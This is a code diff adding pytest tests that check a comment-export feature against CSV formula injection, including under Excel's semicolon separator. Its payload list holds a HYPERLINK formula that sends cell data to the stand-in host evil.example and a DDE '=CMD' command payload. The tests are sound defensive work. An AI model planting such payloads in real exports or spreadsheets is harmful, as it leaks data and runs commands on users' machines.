@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import io
 from datetime import datetime
 
 import pytest
@@ -104,3 +105,38 @@ def test_export_of_an_unknown_batch_fails_clearly(database_url, records, tmp_pat
 
     assert code == 1
     assert "khong-co" in capsys.readouterr().err
+
+
+SEMICOLON_PAYLOADS = [
+    'x;=HYPERLINK("http://evil.example/?leak="&A1;"bấm vào đây");y',
+    "ý kiến;+1+1;@SUM(1);-2",
+    "dòng một\n=1+1\r\n-3",
+    'a; =CMD|"/c calc"!A0;\t=2;\r=3;"=4"',
+]
+
+
+def test_csv_has_every_field_quoted(register, database_url, records, tmp_path):
+    output = _export(database_url, records, tmp_path, ".csv")
+
+    raw = output.read_bytes().decode("utf-8-sig")
+    table = list(csv.reader(io.StringIO(raw, newline="")))
+    requoted = io.StringIO(newline="")
+    csv.writer(requoted, quoting=csv.QUOTE_ALL).writerows(table)
+    assert raw == requoted.getvalue()
+
+
+def test_csv_read_with_semicolon_separator_has_no_formula_cell(client, store, database_url, records,
+                                                              tmp_path):
+    """Excel where the list separator is ";" splits every line at ";" whatever the quotes say."""
+    for text in SEMICOLON_PAYLOADS:
+        client.post("/api/comments", json=comment(text=text))
+    output = _export(database_url, records, tmp_path, ".csv")
+
+    with output.open(encoding="utf-8-sig", newline="") as file:
+        cells = [cell for row in csv.reader(file, delimiter=";") for cell in row]
+    live = [cell for cell in cells if cell.lstrip(' \t\r"').startswith(("=", "+", "-", "@"))]
+    assert live == []
+    with output.open(encoding="utf-8-sig", newline="") as file:
+        texts = [row[HEADERS.index("Nội dung góp ý")] for row in list(csv.reader(file))[1:]]
+    assert [text.replace("'", "") for text in texts] == [text.replace("\r\n", "\n").replace("\r", "\n")
+                                                         for text in SEMICOLON_PAYLOADS]
